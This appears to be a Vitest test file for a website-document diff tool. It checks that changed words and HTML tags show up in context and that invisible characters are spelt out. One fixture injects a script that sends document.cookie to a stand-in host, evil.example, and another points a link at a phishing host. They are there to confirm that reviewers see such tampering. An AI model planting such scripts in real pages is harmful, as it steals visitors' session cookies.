// @vitest-environment jsdom
/**
 * A diff that hides nothing (docs/site-documents.md, "Semantic diff"): long text and HTML show the words and
 * tags that changed. Lists, renames, templates and secrets are the other diff-hides-nothing-*.test.ts's.
 */
import cloneDeep from 'lodash-es/cloneDeep.js';
import { describe, expect, it } from 'vitest';
import { diffSiteDocuments } from '../../../engine/document/diff.ts';
import { renderMarkdown, renderText } from '../../../engine/document/diff-render.ts';
import { describeChange } from '../../../engine/document/diff-sentences.ts';
import {
  base,
  diffAfter,
  expectNoIdenticalSides,
  home,
  PARAGRAPH,
} from './diff-hides-nothing-kit.ts';

describe('long text and HTML: the words and tags that changed, in context', () => {
  it('a one-word change in a 300-word paragraph shows that word with a few words either side', () => {
    const changes = diffAfter(
      (d) =>
        (home(d)[1].props.html = home(d)[1].props.html.replace(
          'genuine parts to every car we',
          'genuine Toyota parts to every car we',
        )),
    );
    expect(changes).toHaveLength(1);
    const text = renderText(changes);
    expect(text).toBe(
      'Block rich-text intro on page home: props/html edited: "… service team fits genuine {+Toyota +}parts to every car …"\n',
    );
    expectNoIdenticalSides(text);
    // The before and after as printed differ: the old form cut both to the same 80 characters.
    expect(text).not.toMatch(/"(.{70,})" → "\1"/);
    expect(text.length).toBeLessThan(200);
    const md = renderMarkdown(changes);
    expect(md).toContain(
      '`props/html` edited: "… service team fits genuine <ins>Toyota </ins>parts to every car …"',
    );
  });

  it('a change deep in a paragraph keeps context on both sides and elides the rest', () => {
    const words = PARAGRAPH.split(' ');
    words[200] = 'original';
    const after = [...words];
    after[200] = 'OEM';
    const changes = diffSiteDocuments(
      { ...base(), name: words.join(' ') },
      { ...base(), name: after.join(' ') },
    );
    const line = describeChange(changes[0]);
    expect(line).toMatch(
      /^Identity: name edited: "… \S+ \S+ \S+ \S+ \[-original-\]\{\+OEM\+\} \S+ \S+ \S+ \S+ …"$/,
    );
  });

  it('a <script> appended to rich text is shown as that tag, in text and Markdown', () => {
    const changes = diffAfter(
      (d) =>
        (home(d)[1].props.html +=
          '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'),
    );
    const text = renderText(changes);
    expect(text).toContain(
      'props/html edited: "… we look after</p>{+<script>fetch(\\"https://evil.example/?c=\\" + document.cookie)</script>+}" (tags added: <script>)',
    );
    expectNoIdenticalSides(text);
    const md = renderMarkdown(changes);
    // Escaped: the comment shows the tag instead of running it, and nothing in it is Markdown.
    expect(md).toContain(
      '<ins>&lt;script&gt;fetch(\\\\"https://evil.example/?c=\\\\" + document.cookie)&lt;/script&gt;</ins>" (tags added: `<script>`)',
    );
    expect(md).not.toMatch(/<script>fetch/);
  });

  it('a changed link target inside HTML names the tag', () => {
    const changes = diffAfter(
      (d) =>
        (home(d)[1].props.html = home(d)[1].props.html.replace(
          '<p>',
          '<p><a href="/service">Book</a> ',
        )),
    );
    const before = base();
    before.pages[0].blocks[1].props.html = before.pages[0].blocks[1].props.html.replace(
      '<p>',
      '<p><a href="/service">Book</a> ',
    );
    const after = cloneDeep(before);
    after.pages[0].blocks[1].props.html = after.pages[0].blocks[1].props.html.replace(
      'href="/service"',
      'href="https://phish.example"',
    );
    expect(renderText(changes)).toContain('tags added: <a>');
    expect(renderText(diffSiteDocuments(before, after))).toContain(
      'props/html edited: "<p>[-<a href=\\"/service\\">-]{+<a href=\\"https://phish.example\\">+}Book</a> Our service …" (tags changed: <a>)',
    );
  });

  it("the editor review panel's wrapper (a function) gets the word diff as one value", () => {
    const changes = diffAfter((d) => (home(d)[1].props.html += '<script>x</script>'));
    expect(describeChange(changes[0], (s) => `‹${s}›`)).toBe(
      'Block rich-text ‹intro› on page ‹home›: ‹props/html› edited: ‹"… we look after</p>{+<script>x</script>+}" (tags added: <script>)›',
    );
  });

  it('short values keep "a" → "b"; invisible characters are spelt out so they never print alike', () => {
    expect(renderText(diffAfter((d) => (home(d)[0].props.heading = 'Hello')))).toBe(
      'Block hero home-hero on page home: props/heading "Welcome" → "Hello"\n',
    );
    const nbsp = renderText(diffAfter((d) => (home(d)[0].props.text = 'Cars for\u00a0everyone.')));
    expect(nbsp).toBe(
      'Block hero home-hero on page home: props/text "Cars for everyone." → "Cars for\\u00a0everyone."\n',
    );
    const zw = renderText(diffAfter((d) => (home(d)[0].props.heading = 'Wel\u200bcome')));
    expect(zw).toContain('"Welcome" → "Wel\\u200bcome"');
  });
});
